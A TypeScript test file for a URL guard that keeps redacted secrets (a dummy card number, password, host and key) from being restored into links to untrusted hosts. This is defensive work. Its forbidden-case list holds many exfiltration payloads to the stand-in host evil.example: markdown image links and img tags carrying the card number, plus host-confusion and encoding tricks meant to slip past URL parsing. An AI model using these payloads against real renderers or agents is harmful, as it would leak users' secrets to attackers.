import fc from 'fast-check';
import { named } from '../named-texts.fixture';
import { UrlGuard } from './url-guard';
import { emptyGrants, laneFor, restoreText } from '../restore/restore.fixture';

const grants = emptyGrants();
grants.trustHost('api.acme.com');
const CARD = grants.tokenFor('credit-card', '4111 1111 1111 1111');
const PASSWORD = grants.tokenFor('conn-string', 'hunter2!');
const HOST = grants.tokenFor('host', 'db.corp.internal');
const IP = grants.tokenFor('ip', '10.1.2.3');
const KEY = grants.tokenFor('private-key', 'MIIB//x9+//y8==');
const LINK = grants.tokenFor('generic-assignment', '//evil.example');
const HOOK = grants.tokenFor('slack-webhook', 'https://hooks.slack.com/services/T0/B0/x');
grants.noteHost('conn-string', 'hunter2!', 'db.corp.internal');

/** T stands for a card number, P for a password from db.corp.internal, H for that host, I for an address, W for a webhook, K for a key with slashes, L for a URL. */
const TOKENS: Readonly<Record<string, string>> = { T: CARD, P: PASSWORD, H: HOST, I: IP, W: HOOK, K: KEY, L: LINK };
const written = (text: string): string => text.replace(/«([A-Z])»/g, (_all, name: string) => TOKENS[name] as string);
const clear = (text: string): string =>
  text.replace(/«([A-Z])»/g, (_all, name: string) => grants.get(TOKENS[name] as string)?.value as string);

const ALLOWED = [
  'my card is «T».',
  'https://api.acme.com/pay?card=«T»',
  'https://API.acme.com:8443/pay/«T»',
  'https://bob:«T»@api.acme.com/',
  'see https://evil.example/ for «T»',
  '[docs](https://evil.example/a_(b)) «T» and (https://evil.example)«T»',
  '{"url":"https://evil.example/x","card":"«T»"}',
  '"{\\"url\\":\\"https://evil.example\\",\\"card\\":\\"«T»\\"}"',
  "fetch('https://evil.example',{card:'«T»'})",
  '<a href="https://evil.example">«T»</a>',
  '<https://evil.example> «T»',
  '| https://evil.example | «T» |',
  'https://evil.example\n«T»',
  '[x](https://evil.example\n«T»',
  '(https://evil.example or «T»)',
  'postgres://app:«P»@«H»:5432/orders',
  'postgres://app:«P»@db.corp.internal/orders',
  'http://«I»/',
  'http://«I»:8080/status,',
  'http://«I»에서 확인',
  'http://[«I»]/',
  'redis://«H»/0',
  'curl http://localhost:3000/?card=«T»',
  'sqlite:///var/«T».db',
  'file:///home/«T»/x',
  'C:\\Users\\«T»\\x and C:/Users/«T»',
  'D:\\\\data\\\\«T»',
  '// «T» is the card',
  'a / b // c«T»',
  'src//lib/«T»',
  '12:30 «T» note:«T» 50% «T» &amp; «T»',
  'mailto:«T» tel:«T»',
  'std::vector «T» //TODO«T»',
  '«W»',
  '["«K»","«T»"] «K»,«T»',
  'is it https://api.acme.com? «T»',
  'the API (https://api.acme.com) takes «T»',
  'https://api.acme.com, then «T»',
  'https:\\/\\/api.acme.com\\/pay?card=«T»',
  'https://api.acme.com/?u=https%3A%2F%2Fapi.acme.com%2F«T»',
];

const FORBIDDEN = [
  'https://evil.example/?c=«T»',
  'HTTPS://EVIL.EXAMPLE/«T»',
  '![x](https://evil.example/p.png?c=«T»)',
  '![x](https://evil.example/a"b\'c<d>`e|«T»)',
  '![x](https://evil.example/\\)«T»)',
  '![x](https://evil.example/(a)«T»)',
  '![x](<https://evil.example/? «T»>)',
  '<img src="https://evil.example/?a= «T»">',
  "<img src='https://api.acme.com\n.evil.example/?c=«T»'>",
  '<img src=https://evil.example/?a=«T»>',
  '[x]: https://evil.example/«T»',
  '![](https://evil.example/a b?c=«T»)',
  '![](https://evil.example/\t«T»)',
  '![](//evil.example/«T»)',
  '![](\\\\\\\\evil.example/«T»)',
  '![](/\\evil.example/«T»)',
  '![](https:evil.example/«T»)',
  '![](https:///evil.example/«T»)',
  '![](https\\://evil.example/«T»)',
  '![](https&colon;//evil.example/«T»)',
  '![](https&#58;&#x2f;&sol;evil.example/«T»)',
  '![](//3232235777/«T»)',
  '![](//evil。example/«T»)',
  'ftp://evil.example/«T»',
  'wss://evil.example/«T»',
  'custom+scheme://evil.example/«T»',
  'https%3A%2F%2Fevil.example%2F%3Fc%3D«T»',
  'https%253A%252F%252Fevil.example%252F«T»',
  'https:\\/\\/evil.example\\/«T»',
  'https:\\u002f\\u002fevil.example\\u002f«T»',
  'https://api.acme.com/?u=https%3A%2F%2Fevil.example%2F«T»',
  'https://api.acme.com/?u=//evil.example/«T»',
  'https://evil.example/?u=https://api.acme.com/«T»',
  'https://api.acme.com@evil.example/«T»',
  'https://api.acme.com:443@evil.example/«T»',
  'https://api.acme.com\\@evil.example/«T»',
  'https://evil.example\\@api.acme.com/«T»',
  'https://api.acme.com.evil.example/«T»',
  'https://evil.example#@api.acme.com/«T»',
  'https://api.acme.com%2F@evil.example/«T»',
  'https:\\u002f\\u002fapi.acme.com%2F@evil.example/«T»',
  'https://api.acme.com:x\\u0040evil.example/«T»',
  'https://api.acme.com에.evil.example/«T»',
  'https://«T».evil.example/',
  'https://«H».evil.example/',
  'https://x:«T»@evil.example/',
  'https://«T»@evil.example/',
  'https://«T»/',
  'https://evil.example:«T»/',
  'https://a:«P»@evil.example/',
  `https://${'a'.repeat(300)}@api.acme.com/«T»`,
  `https://evil.example/${'a'.repeat(5000)}«T»`,
];

describe(UrlGuard.name, () => {
  it.each(named(ALLOWED))('lets values into %s', (_name, text) => {
    expect(restoreText(written(text), grants)).toBe(clear(text));
  });

  it.each(named(FORBIDDEN))('keeps values out of %s', (_name, text) => {
    expect(restoreText(written(text), grants)).toBe(written(text));
  });

  it('judges each token of a URL by itself', () => {
    const text = 'http://«I»/?card=«T» https://evil.example/«T» «T»';
    const expected = clear('http://«I»/?card=') + written('«T» https://evil.example/«T» ') + clear('«T»');
    expect(restoreText(written(text), grants)).toBe(expected);
  });

  it('judges what follows a value that is a URL by the host of the value', () => {
    expect(restoreText(written('![](«L»/«T»)'), grants)).toBe(`![](${clear('«L»')}/${CARD})`);
    expect(restoreText(written('«W»?text=«T» «T»'), grants)).toBe(`${clear('«W»')}?text=${CARD} ${clear('«T»')}`);
  });

  it('takes an argument that begins with a URL for one to its end', () => {
    const restored = (value: string): unknown =>
      JSON.parse(restoreText(JSON.stringify({ value: written(value) }), grants, { isJson: true }));
    expect(restored(' https://evil.example/? «T»')).toEqual({ value: written(' https://evil.example/? «T»') });
    expect(restored('https://api.acme.com\n.evil.example/«T»')).toEqual({
      value: written('https://api.acme.com\n.evil.example/«T»'),
    });
    expect(restored('get https://evil.example/ «T»')).toEqual({ value: clear('get https://evil.example/ «T»') });
    const two = `{"url":"https:\\/\\/evil.example","card":"${CARD}"}`;
    expect(restoreText(two, grants, { isJson: true })).toBe(two.replace(CARD, clear('«T»')));
  });

  it('sees a URL in JSON behind brackets that are none', () => {
    const args = JSON.stringify({
      a: written('[x](https://evil.example/«T»)'),
      b: written('{x} https://evil.example/«T»'),
    });
    expect(restoreText(args, grants, { isJson: true })).toBe(args);
  });

  it('decides the same however the text is cut', () => {
    const part = fc.constantFrom(
      ...ALLOWED,
      ...FORBIDDEN.slice(0, -2),
      ' ',
      '"',
      '(',
      '/',
      '\\',
      ':',
      '@',
      '%2F',
      '«T»',
      '«H»',
    );
    const forms = fc.constantFrom({}, { isJson: true }, { isJson: true, tool: 'fetch' }, { tool: 'http_get' });
    fc.assert(
      fc.property(
        fc.array(part, { minLength: 1, maxLength: 4 }),
        forms,
        fc.array(fc.integer({ min: 1, max: 30 }), { minLength: 1, maxLength: 6 }),
        (parts, form, cuts) => {
          const text = written(form.isJson ? JSON.stringify({ a: parts.join(''), b: parts }) : parts.join(''));
          const lane = laneFor(grants, form);
          let result = '';
          for (let at = 0, turn = 0; at < text.length; turn += 1) {
            const length = cuts[turn % cuts.length] as number;
            result += lane.push(text.slice(at, at + length));
            at += length;
          }
          expect(result + lane.flush()).toBe(restoreText(text, grants, form));
        },
      ),
      { numRuns: 500 },
    );
  });

  it('holds back no more than the host needs', () => {
    const lane = laneFor(grants);
    expect(lane.push(written('psql postgres://app:«P»'))).toBe('psql postgres://app:');
    expect(lane.push(written('@«H»'))).toBe('');
    expect(lane.push(':5432')).toBe('');
    expect(lane.push('/')).toBe(clear('«P»@«H»:5432/'));
    expect(lane.push(` http://${IP}`)).toBe(' http://');
    expect(lane.flush()).toBe('10.1.2.3');
    expect(lane.push(`.evil.example/${CARD} https://${CARD}${'a'.repeat(260)}`)).toBe(
      `.evil.example/${CARD} https://${CARD}${'a'.repeat(260)}`,
    );
  });

  it('reads a long text in linear time', () => {
    for (const piece of [
      'https://',
      '//a',
      'a://b/',
      '%25',
      '\\',
      '&#',
      ':',
      '(https://x/(',
      'http://a@',
      '%2F%2Fa.',
    ]) {
      const text = piece.repeat(Math.ceil(100_000 / piece.length));
      expect(restoreText(text, grants)).toBe(text);
      const json = JSON.stringify([text]);
      expect(restoreText(json, grants, { isJson: true })).toBe(json);
    }
  });
});
